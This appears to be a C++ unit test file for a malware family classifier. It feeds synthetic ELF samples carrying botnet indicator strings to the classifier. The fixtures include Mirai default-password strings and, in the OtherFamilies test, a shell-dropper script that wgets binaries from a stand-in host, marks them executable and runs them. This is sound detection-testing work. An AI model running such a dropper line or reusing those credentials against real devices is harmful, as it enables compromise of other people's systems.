#include "analysis/static/family_classifier.h"

#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>

#include "analysis/static/static_analyzer.h"
#include "testing/sample_fixtures.h"
#include "testing/temp_dir.h"

namespace mitsu::analysis {
namespace {

namespace fs = std::filesystem;
using testing::fake_elf;
using testing::FakeElf;
using testing::string_table;

std::shared_ptr<const FamilyClassifier> shipped_rules() {
  static auto rules = [] {
    auto loaded = FamilyClassifier::load({MITSU_DEFAULT_RULES_DIR});
    EXPECT_TRUE(loaded.ok()) << loaded.error();
    return std::shared_ptr<const FamilyClassifier>(std::move(*loaded));
  }();
  return rules;
}

std::string family_of(std::span<const std::byte> sample) {
  auto verdict = shipped_rules()->classify(sample);
  EXPECT_TRUE(verdict.ok()) << verdict.error();
  return verdict.ok() ? verdict->family : "error";
}

std::span<const std::byte> bytes(std::string_view text) {
  return std::as_bytes(std::span(text.data(), text.size()));
}

const std::vector<std::string> kMiraiTable{"/dev/watchdog",        "/proc/net/tcp", "/bin/busybox",
                                           "TSource Engine Query", "xc3511",        "vizxv"};

TEST(FamilyClassifier, MiraiWhateverTheXorKeyAndCpu) {
  for (std::uint8_t key : {0x00, 0x22, 0x54}) {
    for (FakeElf cpu : {FakeElf{40, false, false, 0x05000200}, FakeElf{8, false, true, 0x1007},
                        FakeElf{8, false, false, 0x1007}, FakeElf{42, false, false, 9},
                        FakeElf{20, false, true, 0}, FakeElf{62, true, false, 0}}) {
      auto sample = fake_elf(cpu, string_table(kMiraiTable, key));
      EXPECT_EQ(family_of(sample), "Mirai") << "key " << int(key) << " machine " << cpu.machine;
    }
  }
}

TEST(FamilyClassifier, VariantsOutrankTheirParent) {
  auto with = [](std::string extra) {
    auto table = kMiraiTable;
    table.push_back(std::move(extra));
    return fake_elf({}, string_table(table, 0x22));
  };
  EXPECT_EQ(family_of(with("HAKAI")), "Hakai");
  EXPECT_EQ(family_of(with("OKIRU")), "Satori");
  EXPECT_EQ(family_of(with("MOOBOT")), "Moobot");
  auto verdict = shipped_rules()->classify(with("HAKAI"));
  ASSERT_TRUE(verdict.ok());
  EXPECT_EQ(verdict->matches.size(), 2u) << "both the family and the variant rule are listed";
}

TEST(FamilyClassifier, OtherFamilies) {
  EXPECT_EQ(family_of(fake_elf({}, string_table({"GETLOCALIP", "SCANNER ON", "SCANNER OFF",
                                                 "KILLATTK", "LOLNOGTFO", "PONG!"}))),
            "Gafgyt");
  EXPECT_EQ(family_of(fake_elf(
                {8, false, true, 0x1007},
                string_table({"NOTICE %s :", "PRIVMSG %s :", "NICK %s", "KAITEN wa goraku"}))),
            "Tsunami");
  EXPECT_EQ(family_of(fake_elf(
                {}, string_table({"[ss]bot[/ss]", "[hp]88888888[/hp]", "dht.transmissionbt.com"}))),
            "Mozi");
  EXPECT_EQ(family_of(fake_elf({}, string_table({"Just a white hat, securing some systems."}))),
            "Hajime");
  EXPECT_EQ(family_of(fake_elf({}, string_table({"/var/vpnfilter", "tor_lib"}))), "VPNFilter");
  EXPECT_EQ(
      family_of(fake_elf({62, true, false, 0}, string_table({"stratum+tcp://pool.example.com:3333",
                                                             "--donate-level=1"}))),
      "CoinMiner");
  EXPECT_EQ(family_of(bytes("#!/bin/sh\ncd /tmp || cd /var/run\n"
                            "wget http://192.0.2.7/bins/x.arm; chmod 777 x.arm; ./x.arm\n"
                            "wget http://192.0.2.7/bins/x.mips; chmod 777 x.mips; ./x.mips\n")),
            "ShellDropper");
}

TEST(FamilyClassifier, CleanBinariesAreUnclassified) {
  std::vector<fs::path> clean{"/usr/bin/busybox"};
  fs::path corpus = fs::path(MITSU_ELF_CORPUS) / "root" / "usr";
  ASSERT_TRUE(fs::exists(corpus)) << "run scripts/fetch-elf-corpus.sh";
  for (const auto& entry : fs::recursive_directory_iterator(corpus)) {
    if (entry.is_regular_file() && entry.path().filename().string().starts_with("libc.so")) {
      clean.push_back(entry.path());
    }
  }
  ASSERT_GE(clean.size(), 17u);
  for (const fs::path& path : clean) {
    std::ifstream in(path, std::ios::binary);
    std::string data((std::istreambuf_iterator<char>(in)), {});
    ASSERT_FALSE(data.empty()) << path;
    EXPECT_EQ(family_of(bytes(data)), kUnclassified) << path;
  }
  EXPECT_EQ(family_of(fake_elf({}, string_table({"hello", "/proc/self/exe"}))), kUnclassified);
}

TEST(FamilyClassifier, UserRulesAddToTheShippedOnes) {
  testing::TempDir dir("user-rules");
  std::ofstream(dir / "ours.yar") << "rule acme_backdoor { meta: family = \"AcmeBackdoor\" "
                                     "confidence = 90 strings: $a = \"acme-secret-door\" "
                                     "condition: $a }\n";
  auto rules = FamilyClassifier::load({MITSU_DEFAULT_RULES_DIR, dir.path()});
  ASSERT_TRUE(rules.ok()) << rules.error();
  auto verdict = (*rules)->classify(bytes("xx acme-secret-door xx"));
  ASSERT_TRUE(verdict.ok());
  EXPECT_EQ(verdict->family, "AcmeBackdoor");
  EXPECT_EQ(verdict->confidence, 90);
}

TEST(FamilyClassifier, BrokenRulesNameFileAndLine) {
  testing::TempDir dir("bad-rules");
  std::ofstream(dir / "broken.yar") << "rule ok { condition: true }\nrule bad { condition: $x }\n";
  auto rules = FamilyClassifier::load({dir.path()});
  ASSERT_FALSE(rules.ok());
  EXPECT_NE(rules.error().find("broken.yar:2"), std::string::npos) << rules.error();
  EXPECT_FALSE(FamilyClassifier::load({"/nonexistent/rules"}).ok());
}

TEST(StaticAnalyzer, VerdictForAMiraiLikeArmSample) {
  StaticAnalyzer analyzer(shipped_rules());
  auto sample = fake_elf({}, string_table(kMiraiTable, 0x22) + string_table({"busybox"}));
  auto verdict = analyzer.analyze(sample);
  ASSERT_TRUE(verdict.ok()) << verdict.error();
  EXPECT_EQ(verdict->family.family, "Mirai");
  EXPECT_EQ(verdict->elf.arch, "arm");
  EXPECT_EQ(verdict->target.target, "iot");
  EXPECT_EQ(verdict->strings.xor_keys, std::vector<std::uint8_t>{0x22});
  nlohmann::json json = verdict->to_json();
  EXPECT_EQ(json["analyzer"]["version"], kStaticAnalyzerVersion);
  EXPECT_EQ(json["family"]["name"], "Mirai");
  EXPECT_EQ(json["hashes"]["sha256"].get<std::string>().size(), 64u);
  EXPECT_EQ(json["elf"]["abi"], "EABI5 soft-float");
  EXPECT_EQ(json["target"]["class"], "iot");
}

TEST(StaticAnalyzer, ServerSampleLeansPc) {
  StaticAnalyzer analyzer(shipped_rules());
  auto sample = fake_elf(
      {62, true, false, 0},
      string_table({"systemctl enable miner", "/etc/systemd/system/x.service", "crontab -l"}));
  auto verdict = analyzer.analyze(sample);
  ASSERT_TRUE(verdict.ok());
  EXPECT_EQ(verdict->target.target, "pc") << verdict->target.score;
  EXPECT_FALSE(verdict->target.reasons.empty());
}

}  // namespace
}  // namespace mitsu::analysis
